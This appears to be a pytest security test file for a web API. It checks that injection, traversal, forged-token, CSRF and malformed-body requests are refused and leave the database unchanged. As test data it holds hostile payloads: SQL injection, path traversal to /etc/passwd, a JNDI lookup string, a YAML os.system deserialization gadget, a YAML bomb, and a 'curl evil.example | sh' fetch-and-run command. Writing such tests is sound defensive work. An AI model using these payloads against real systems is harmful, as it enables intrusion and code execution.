"""Attacks, each refused with nothing changed: on paths and arguments, by study files, without or with the wrong token,
beyond a token's scopes, through a browser, and by malformed bodies.
"""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import text

from celeriac.client import Client
from celeriac.domain.records import ApiToken, Scope, digest_of
from celeriac.runtime.settings import Settings
from celeriac.store import WebStore
from celeriac.store.connection import open_engine
from celeriac.store.tables import metadata
from celeriac.store.tokens import make_link, make_token
from celeriac.web.auth.principal import COOKIE
from tests.celeriac.cli.played import PLAN, SPEC, STUDY_FILE, played
from tests.celeriac.web.conftest import Ask

V1 = "/api/v1"
#: What a refused request may change: who was here when, and nothing of the service's.
_OURS = {"api_token", "web_session", "web_request", "web_viewer"}


@pytest.fixture
def unchanged(settings: Settings, app: FastAPI) -> Iterator[None]:
    """A service with a study, a night and a champion, of which no row is another after the test."""
    client: Client = app.state.client
    played(client, client.submit(SPEC), 0.5, 0.75)
    client.add_schedule({**SPEC, **PLAN})
    name = client.fire("nightly", slice_={"r": "eu"})[0].name
    played(client, client.study(name), 0.5)
    client.promote(name, 0, None, "seen")
    before = _rows(settings.database_url)
    assert before["champion"]
    yield
    assert _rows(settings.database_url) == before


def _rows(database: str) -> dict[str, list[str]]:
    engine = open_engine(database, pool_size=1)
    try:
        with engine.connect() as connection:
            return {
                name: sorted(row[0] for row in connection.execute(text(f"SELECT CAST(t AS text) FROM {name} t")))
                for name in metadata.tables
                if name not in _OURS
            }
    finally:
        engine.dispose()


def refused(client: TestClient, attacks: list[tuple[str, str, dict[str, Any]]], least: int) -> None:
    """Send each; each is refused by us, in the one form of errors, with nothing of our inside in it."""
    assert len(attacks) >= least
    for method, path, how in attacks:
        answer = client.request(method, path, **how)
        assert 400 <= answer.status_code < 500, (method, path, how, answer.status_code, answer.text[:300])
        if answer.headers.get("content-type", "").startswith("application/problem+json"):
            assert answer.json()["status"] == answer.status_code
        for inside in ("Traceback", "psycopg", "postgresql+", "SELECT ", 'File "'):
            assert inside not in answer.text, (path, answer.text[:300])


def test_bad_paths_and_arguments_are_refused_and_change_nothing(api: TestClient, unchanged: None) -> None:
    names = ["'; DROP TABLE study; --", "' OR 1=1 --", "%00", "..%2f..%2fetc%2fpasswd", "{{7*7}}", "${jndi:ldap://x}"]
    names += ["<script>alert(1)</script>", "a" * 301, "%ff%fe", "digits%0d%0aSet-Cookie:%20a=b"]
    attacks: list[tuple[str, str, dict[str, Any]]] = [("GET", f"{V1}/studies/{name}", {}) for name in names]
    attacks += [("POST", f"{V1}/studies/{name}/stop", {"json": {}}) for name in names[:4]]
    attacks += [("POST", f"{V1}/schedules/{name}/fire", {"json": {}}) for name in names[:4]]
    attacks += [("GET", f"{V1}/studies/digits/trials/{n}", {}) for n in ("-1", "99999999999999999999", "1e3", "0x1")]
    attacks += [
        ("GET", f"{V1}/studies/digits/trials", {"params": params})
        for params in (
            {"limit": 100000},
            {"limit": -1},
            {"cursor": "' OR 1=1"},
            {"cursor": "WzFlMzA4XQ"},
            {"order": "score; DROP TABLE trial"},
            {"min_score": "nan"},
            {"state": "SCORED' OR '1'='1"},
        )
    ]
    attacks += [("GET", f"/static/{path}", {}) for path in ("../app.py", "..%2fapp.py", "%2e%2e/app.py", "/etc/passwd")]
    refused(api, attacks, 30)


def test_no_study_file_reaches_beyond_the_code_root(asked: Ask, web_store: WebStore, unchanged: None) -> None:
    no_objective = {key: value for key, value in SPEC.items() if key != "objective"}
    new = {**SPEC, "study": "new"}
    specs: list[Any] = [{**new, "code": code} for code in ("/", "/etc", "..", "~root", "a/../../..", "\0", "//etc")]
    specs += [
        {**new, "objective": each} for each in ("os:system", "train:__import__", "../train:objective", "a:b:c", "")
    ]
    specs += [{**new, "study": each} for each in ("../x", "a b", "<b>", "a" * 101, "")]
    specs += [{**no_objective, "study": "new", "command": "curl evil.example | sh {lr}"}]
    specs += [{**new, "space": {"lr": {"float": [1e-5, 1e309]}}}, {**new, "budget": {"trials": -1}}, [], "x"]
    bomb = "a: &a [x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(20)
    )
    texts = [
        STUDY_FILE.replace("digits", "new") + "x: !!python/object/apply:os.system ['id']\n",
        STUDY_FILE.replace("digits", "new") + "study: twice\n",
        bomb,
        "[" * 5000,
        "study: \x00",
        "--- a\n--- b\n",
        "x" * 1_000_001,
    ]
    client = asked(make_token(web_store, "submitter", (Scope.SUBMIT,)))
    attacks: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", f"{V1}/studies", {"content": _json({"spec": each})}) for each in specs
    ]
    attacks += [("POST", f"{V1}/studies", {"json": {"yaml": each}}) for each in texts]
    hook = {**PLAN["schedule"], "name": "hooked", "hook": {"command": "touch /tmp/x"}}  # type: ignore[dict-item]
    attacks += [("POST", f"{V1}/schedules", {"json": {"spec": {**SPEC, "schedule": hook}}})]
    refused(client, attacks, 28)


def _json(value: Any) -> bytes:
    import json

    return json.dumps(value).encode()


def test_nobody_passes_without_a_token_of_the_scope(
    asked: Ask, web_store: WebStore, token: str, unchanged: None
) -> None:
    past = datetime.now(UTC) - timedelta(days=1)
    web_store.add_token(ApiToken("old", digest_of("clr_old"), tuple(Scope), past, expires_at=past))
    gone = make_token(web_store, "gone", tuple(Scope))
    web_store.revoke_token("gone")
    link = make_link(web_store, "tester")
    logins: list[dict[str, Any]] = [
        {},
        {"headers": {"Authorization": "Bearer"}},
        {"headers": {"Authorization": f"Basic {token}"}},
        {"headers": {"Authorization": token}},
        {"headers": {"Authorization": f"Bearer {token[:-1]}"}},
        {"headers": {"Authorization": f"Bearer {digest_of(token)}"}},
        {"headers": {"Authorization": f"Bearer {link}"}},
        {"headers": {"Authorization": f"Bearer {gone}"}},
        {"headers": {"Authorization": "Bearer clr_old"}},
        {"headers": {"Authorization": "Bearer ' OR '1'='1"}},
        {"headers": {"Cookie": f"{COOKIE}={token}"}},
        {"headers": {"Cookie": f"{COOKIE}={link}"}},
        {"params": {"token": token, "access_token": token}},
        {"headers": {"X-Forwarded-User": "root", "X-Original-URL": "/login"}},
    ]
    refused(asked(), [("POST", f"{V1}/studies/digits/stop", {"json": {}, **each}) for each in logins], 14)
    reader = asked(make_token(web_store, "reader", (Scope.READ,)))
    writes = [f"studies/digits/{verb}" for verb in ("stop", "pause", "resume", "reopen", "extend", "retry")]
    writes += [f"schedules/nightly/{verb}" for verb in ("fire", "pause", "remove", "approve", "rollback")]
    refused(reader, [("POST", f"{V1}/{each}", {"json": {}}) for each in writes], 11)
    submitter = asked(make_token(web_store, "submitter", (Scope.READ, Scope.SUBMIT)))
    operator_only: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", f"{V1}/fleet/drain", {"json": {"host": "here"}}),
        ("POST", f"{V1}/schedules/nightly/rollback", {"json": {"slice": "r=eu"}}),
        ("POST", f"{V1}/schedules/nightly/promote", {"json": {"study": "digits", "trial": 0}}),
        ("POST", f"{V1}/schedules/nightly/remove", {"json": {}}),
    ]
    refused(submitter, operator_only, 4)


def test_no_other_site_changes_anything_by_a_persons_browser(
    browser: TestClient, web_store: WebStore, unchanged: None
) -> None:
    csrf = web_store.session_of(digest_of(browser.cookies[COOKIE])).csrf  # type: ignore[union-attr]
    path = f"{V1}/studies/digits/stop"
    attacks: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", path, {"json": {}}),
        ("POST", path, {"json": {}, "headers": {"X-CSRF-Token": ""}}),
        ("POST", path, {"json": {}, "headers": {"X-CSRF-Token": csrf[:-1]}}),
        ("POST", path, {"json": {}, "headers": {"X-CSRF-Token": csrf, "Origin": "https://evil.example"}}),
        ("POST", path, {"json": {}, "headers": {"X-CSRF-Token": csrf, "Origin": "null"}}),
        ("POST", path, {"json": {}, "headers": {"X-CSRF-Token": csrf, "Origin": "http://testserver.evil.example"}}),
        ("POST", path, {"content": "{}", "headers": {"Content-Type": "text/plain"}}),
        ("POST", path, {"data": {"csrf": "wrong"}}),
        ("POST", path, {"files": {"csrf": ("a", b"x")}}),
        ("POST", "/logout", {"data": {"next": "/"}}),
    ]
    refused(browser, attacks, 10)
    for to in ("//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)", "\t//evil.example"):
        assert browser.get("/login", params={"next": to}).text.count("evil") == 0


def test_bad_bodies_are_refused_and_change_nothing(api: TestClient, unchanged: None) -> None:
    path, kind = f"{V1}/studies/digits/points", {"Content-Type": "application/json"}
    bodies: list[bytes] = [b"", b"{", b"[]", b"null", b'{"points": []}', b'{"points": [{"lr": "x"}]}', b"[" * 100_000]
    bodies += [b'{"points": [{"lr": NaN}]}', b'{"points": [{"lr": 1e999}]}', b'{"points": [{"\\ud800": 0.1}]}']
    bodies += [b'{"points": [{"lr": 0.1, "other": 1}]}', b'{"points": [{"lr": 0.1}], "by": "root"}', b"\xff\xfe{}"]
    bodies += [b'{"points": [{"lr": 0.1}]' + b" " * 1_048_576 + b"}"]
    attacks: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", path, {"content": each, "headers": kind}) for each in bodies
    ]
    attacks += [
        ("POST", path, {"json": {"points": [{"lr": 0.1}]}, "headers": {"Idempotency-Key": k}}) for k in ("", "k" * 201)
    ]
    attacks += [(method, f"{V1}/studies/digits", {}) for method in ("PUT", "DELETE", "PATCH", "TRACE")]
    refused(api, attacks, 20)
